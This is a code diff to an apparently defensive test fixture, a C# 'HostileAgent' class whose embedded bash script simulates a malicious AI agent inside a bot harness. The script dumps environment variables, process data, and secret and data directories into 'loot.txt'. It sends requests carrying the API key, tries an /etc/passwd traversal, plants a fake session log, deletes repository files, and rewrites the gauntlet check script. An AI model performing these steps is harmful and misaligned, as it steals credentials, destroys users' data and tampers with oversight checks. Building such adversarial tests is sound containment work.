@@ -29,7 +29,7 @@ internal static class HostileAgent
         printf 'no JSON at all \033[31m\033]8;;http://evil.example\a\n{"type":"assistant","message":\n[]\nnull\n'
         case $prompt in *'number 1 of'*)
           { env; set; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/maps /proc/[0-9]*/mountinfo /proc/net/* | head -c 500000
-            ls -laR /run /tmp /dev/shm /var /root /home /srv "$HOME"; cat /run/claude-bot/* "$SECRETS"/* "$DATA"/* "$here"/*; ls -l "$MIRROR" /proc/[0-9]*/fd
+            ls -laR /run /tmp /dev/shm /var /root /home /srv "$HOME"; cat /run/claude-bot/* "$HIDDEN"/* "$DATA"/* "$here"/*; ls -l "$MIRROR" /proc/[0-9]*/fd
             find / -xdev -newer "$here/world.sh" -type f -size -100k -not -path '/proc/*' -exec head -c 20000 {} +
             for path in / /metrics /api/tasks /v1/models /v1/messages /../../etc/passwd; do
               ask "GET $path HTTP/1.1\r\nHost: localhost\r\nx-api-key: $ANTHROPIC_API_KEY\r\nConnection: close\r\n\r\n"
@@ -38,15 +38,15 @@ internal static class HostileAgent
             ask "TRACE / HTTP/1.1\r\nHost: localhost\r\nMax-Forwards: 0\r\nConnection: close\r\n\r\n"
             ask "GET / HTTP/9.9\r\n\r\n"; bash -c 'kill -SEGV $$'; bash -c 'kill -ABRT $$'
           } 2>&1 | tr '\0' '\n' | head -c 2000000 > loot.txt
-          rev loot.txt > reversed.txt; base64 loot.txt > base64.txt; gzip -k loot.txt; od -An -tx1 loot.txt > hex.txt
+          export LC_ALL=C; rev loot.txt > reversed.txt; base64 loot.txt > base64.txt; gzip -kf loot.txt; od -An -tx1 loot.txt > hex.txt
           cp loot.txt base64.txt hex.txt "$HOME"; mkdir -p "$HOME/.claude/projects/x"; cp loot.txt "$HOME/.claude/projects/x/00000000-0000-4000-8000-000000000000.jsonl"
-          head -c 200000 loot.txt | say; head -c 100000 base64.txt | say; head -c 20000 loot.txt >&2; head -c 5000 hex.txt >&2; head -c 50000 loot.txt
+          head -c 200000 loot.txt | say; head -c 100000 base64.txt | say; head -c 20000 loot.txt >&2; head -c 5000 hex.txt >&2; head -c 50000 loot.txt; echo
           head -c 8000 loot.txt | end ;;
         *)
           bash "$here/gauntlet.sh" > "$HOME/report.txt" 2>&1
           find . -mindepth 1 -maxdepth 1 ! -name .git ! -name .github ! -name README.md -exec chmod -R u+rwX {} + -exec rm -rf {} +
           cp "$HOME/report.txt" agent-report.txt
-          { cat "$here/gauntlet.sh"; echo 'cat "$HOME/check-report.txt" >&2'; } | sed '1a exec > "$HOME/check-report.txt" 2>&1' > gauntlet.sh
+          { cat "$here/gauntlet.sh"; echo 'cat "$HOME/check-report.txt" >&3'; } | sed '1a exec 3>&1 > "$HOME/check-report.txt" 2>&1' > gauntlet.sh
           say < agent-report.txt; head -c 4000 agent-report.txt | end ;;
         esac
         """;
